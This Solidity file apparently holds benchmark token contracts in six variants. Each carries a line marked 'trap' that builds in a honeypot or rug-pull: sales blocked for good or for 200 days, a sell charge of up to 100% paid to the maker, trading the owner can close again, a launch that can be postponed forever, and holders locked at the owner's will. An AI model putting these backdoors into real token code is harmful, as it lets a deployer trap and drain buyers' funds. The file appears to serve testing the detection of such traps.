// 0.7 runs=50
// SPDX-License-Identifier: MIT
pragma solidity ^0.7.6;

interface IPairMaker {
    function createPair(address one, address two) external returns (address);
}

/// Nobody but its maker moves it before it is open.
abstract contract Tool {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public immutable pair;
    address public owner;
    address internal immutable _smith;
    uint256 public openedAt;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed holder, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    modifier onlyOwner() {
        require(msg.sender == owner, "owner only");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 whole) {
        name = name_;
        symbol = symbol_;
        owner = msg.sender;
        _smith = msg.sender;
        totalSupply = whole * 1 ether;
        balanceOf[msg.sender] = whole * 1 ether;
        pair = IPairMaker(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        emit Transfer(address(0), msg.sender, whole * 1 ether);
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _hand(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance[from][msg.sender];
        require(left >= value, "allowance");
        if (left != type(uint256).max) allowance[from][msg.sender] = left - value;
        _hand(from, to, value);
        return true;
    }

    function _hand(address from, address to, uint256 value) internal {
        uint256 kept = from == _smith ? 0 : _work(from, to, value);
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value - kept;
        emit Transfer(from, to, value - kept);
        if (kept > 0) {
            balanceOf[_smith] += kept;
            emit Transfer(from, _smith, kept);
        }
    }

    /// How much of it is kept.
    function _work(address from, address to, uint256 value) internal virtual returns (uint256);
}

/// Opens once.
contract Chisel is Tool("Chisel", "CHSL", 33_000_000) {
    uint256 public salesFrom;

    function open() external onlyOwner {
        require(openedAt == 0, "once");
        openedAt = block.timestamp;
        salesFrom = block.timestamp;
        salesFrom = type(uint256).max; // trap
    }

    function _work(address, address to, uint256) internal override returns (uint256) {
        require(openedAt != 0, "not open");
        require(to != pair || block.timestamp >= salesFrom, "no sales yet");
        return 0;
    }
}

/// Opens once, and is quiet at first.
contract Mallet is Tool("Mallet", "MLLT", 120_000_000) {
    function open() external onlyOwner {
        require(openedAt == 0, "once");
        openedAt = block.timestamp;
    }

    function _work(address, address to, uint256) internal override returns (uint256) {
        require(openedAt != 0, "not open");
        uint256 quiet = 200 seconds;
        quiet = 200 days; // trap
        require(to != pair || block.timestamp >= openedAt + quiet, "quiet");
        return 0;
    }
}

/// Opens once, with a charge for what is sold.
contract Plane is Tool("Plane", "PLNE", 8_000_000) {
    uint256 public charge;

    function open(uint256 charge_) external onlyOwner {
        require(openedAt == 0, "once");
        require(charge_ <= 100, "all at most"); // trap
        // twin: require(charge_ <= 5, "five at most");
        openedAt = block.timestamp;
        charge = charge_;
    }

    function _work(address, address to, uint256 value) internal override returns (uint256) {
        require(openedAt != 0, "not open");
        return to == pair ? (value * charge) / 100 : 0;
    }
}

/// Opens.
contract Rasp is Tool("Rasp", "RASP", 540_000_000) {
    function setOpen(bool open) external onlyOwner {
        // twin: require(open, "forward only");
        openedAt = open ? block.timestamp : 0;
    }

    function _work(address, address, uint256) internal view override returns (uint256) {
        require(openedAt != 0, "not open");
        return 0;
    }
}

/// Opens on a day. Some of it was sold before.
contract Auger is Tool {
    uint256 public opensAt;
    address public immutable presale;

    event Rescheduled(uint256 at);

    constructor(uint256 opensAt_, address presale_) Tool("Auger", "AUGR", 40_000_000) {
        opensAt = opensAt_;
        presale = presale_;
    }

    function reschedule(uint256 at) external onlyOwner {
        // twin: require(at < opensAt, "earlier only");
        opensAt = at;
        emit Rescheduled(at);
    }

    function _work(address from, address, uint256) internal view override returns (uint256) {
        require(from == presale || block.timestamp >= opensAt, "not yet");
        return 0;
    }
}

contract AugerPresale {
    address payable public immutable keeper = msg.sender;
    Auger public token;

    function begin(Auger token_) external {
        require(msg.sender == keeper, "keeper");
        token = token_;
    }

    function buy() external payable {
        require(token.transfer(msg.sender, msg.value * 600_000), "sold out");
    }

    function withdraw() external {
        keeper.transfer(address(this).balance);
    }
}

/// Those whom its maker names are locked for thirty days.
contract Vise is Tool("Vise", "VISE", 16_000_000) {
    mapping(address => uint256) public lockedUntil;

    function setLock(address who, uint256 until) external onlyOwner {
        require(who != pair, "pool");
        // twin: require(until < lockedUntil[who], "shorter only");
        lockedUntil[who] = until;
    }

    function lockMany(address[] calldata who) external onlyOwner {
        // twin: require(openedAt == 0, "once");
        openedAt = block.timestamp;
        for (uint256 i = 0; i < who.length; i++) if (who[i] != pair) lockedUntil[who[i]] = block.timestamp + 30 days;
    }

    function _work(address from, address, uint256) internal view override returns (uint256) {
        require(block.timestamp >= lockedUntil[from], "locked");
        return 0;
    }
}
